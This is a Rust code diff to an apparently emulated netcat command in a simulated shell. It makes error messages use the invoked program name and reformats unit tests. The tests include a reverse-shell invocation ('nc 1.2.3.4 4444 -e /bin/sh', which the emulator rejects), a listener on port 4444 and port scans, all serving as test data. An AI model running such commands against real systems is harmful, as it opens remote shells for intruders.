@@ -28,11 +28,16 @@ impl Command for Nc {
     }
 
     fn run(&self, ctx: &mut CmdCtx<'_>, args: &[String]) -> i32 {
+        // Messages carry the name it was run as (`nc`, `netcat`), as getprogname() gives.
+        let prog = args
+            .first()
+            .map(|a| a.rsplit('/').next().unwrap_or(a).to_string())
+            .unwrap_or_else(|| "nc".into());
         let short = "46bCDdFhklNnrStUuvZzI:i:M:m:O:P:p:q:s:T:V:W:w:X:x:";
         let (opts, ops) = match getopt_stop(args, short, None, "h") {
             Ok(x) => x,
             Err(Bad::Msg(m)) => {
-                ctx.error("nc", &m);
+                ctx.error(&prog, &m);
                 ctx.stderr.write_str(USAGE);
                 return 1;
             }
@@ -40,7 +45,8 @@ impl Command for Nc {
         };
         let has = |c: char| opts.iter().any(|o| o.0 == c);
         if has('h') {
-            ctx.stderr.write_str("OpenBSD netcat (Debian patchlevel 1.219-1)\n");
+            ctx.stderr
+                .write_str("OpenBSD netcat (Debian patchlevel 1.219-1)\n");
             ctx.stderr.write_str(USAGE);
             return 1;
         }
@@ -58,7 +64,7 @@ impl Command for Nc {
             };
             if port.parse::<u16>().is_err() {
                 ctx.stderr
-                    .write_str(&format!("nc: port number invalid: {port}\n"));
+                    .write_str(&format!("{prog}: port number invalid: {port}\n"));
                 return 1;
             }
             if verbose {
@@ -78,14 +84,14 @@ impl Command for Nc {
             Some(l) => l,
             None => {
                 ctx.stderr
-                    .write_str(&format!("nc: port range not valid: {ports}\n"));
+                    .write_str(&format!("{prog}: port range not valid: {ports}\n"));
                 return 1;
             }
         };
         let Some(ip) = download::resolve(host) else {
             download::pace(ctx, download::dns_ms(host));
             ctx.stderr.write_str(&format!(
-                "nc: getaddrinfo for host \"{host}\" port {}: Name or service not known\n",
+                "{prog}: getaddrinfo for host \"{host}\" port {}: Name or service not known\n",
                 list.first().copied().unwrap_or(0)
             ));
             return 1;
@@ -108,7 +114,7 @@ impl Command for Nc {
                 }
             } else if verbose {
                 ctx.stderr.write_str(&format!(
-                    "nc: connect to {host} port {port} ({proto}) failed: Connection refused\n"
+                    "{prog}: connect to {host} port {port} ({proto}) failed: Connection refused\n"
                 ));
             }
         }
@@ -161,14 +167,25 @@ mod tests {
         let r = run("nc", &["-zv", "198.51.100.7", "22"], "/", b"");
         assert_eq!(
             (r.stderr.as_str(), r.code),
-            ("Connection to 198.51.100.7 22 port [tcp/ssh] succeeded!\n", 0)
+            (
+                "Connection to 198.51.100.7 22 port [tcp/ssh] succeeded!\n",
+                0
+            )
         );
         let r = run("nc", &["-zv", "127.0.0.1", "79-80"], "/", b"");
-        assert_eq!(r.stderr, "nc: connect to 127.0.0.1 port 79 (tcp) failed: Connection refused\nnc: connect to 127.0.0.1 port 80 (tcp) failed: Connection refused\n");
+        assert_eq!(
+            r.stderr,
+            "nc: connect to 127.0.0.1 port 79 (tcp) failed: Connection refused\nnc: connect to 127.0.0.1 port 80 (tcp) failed: Connection refused\n"
+        );
         assert_eq!(r.code, 1);
         let r = run("nc", &["127.0.0.1", "4444"], "/", b"x");
         assert_eq!((r.stderr.as_str(), r.code), ("", 1));
-        let r = run("nc", &["198.51.100.7", "80"], "/", b"GET / HTTP/1.0\r\n\r\n");
+        let r = run(
+            "nc",
+            &["198.51.100.7", "80"],
+            "/",
+            b"GET / HTTP/1.0\r\n\r\n",
+        );
         assert_eq!(r.code, 0);
     }
 
@@ -177,10 +194,19 @@ mod tests {
         let r = run("nc", &[], "/", b"");
         assert_eq!((r.stderr.as_str(), r.code), (super::USAGE, 1));
         let r = run("nc", &["1.2.3.4", "4444", "-e", "/bin/sh"], "/", b"");
-        assert!(r.stderr.starts_with("nc: invalid option -- 'e'\nusage: nc "));
+        assert!(
+            r.stderr
+                .starts_with("nc: invalid option -- 'e'\nusage: nc ")
+        );
         let r = run("nc", &["nosuch", "80"], "/", b"");
-        assert_eq!(r.stderr, "nc: getaddrinfo for host \"nosuch\" port 80: Name or service not known\n");
+        assert_eq!(
+            r.stderr,
+            "nc: getaddrinfo for host \"nosuch\" port 80: Name or service not known\n"
+        );
         let r = run("nc", &["-lvp", "4444"], "/", b"");
-        assert_eq!((r.stderr.as_str(), r.code), ("Listening on 0.0.0.0 4444\n", 0));
+        assert_eq!(
+            (r.stderr.as_str(), r.code),
+            ("Listening on 0.0.0.0 4444\n", 0)
+        );
     }
 }
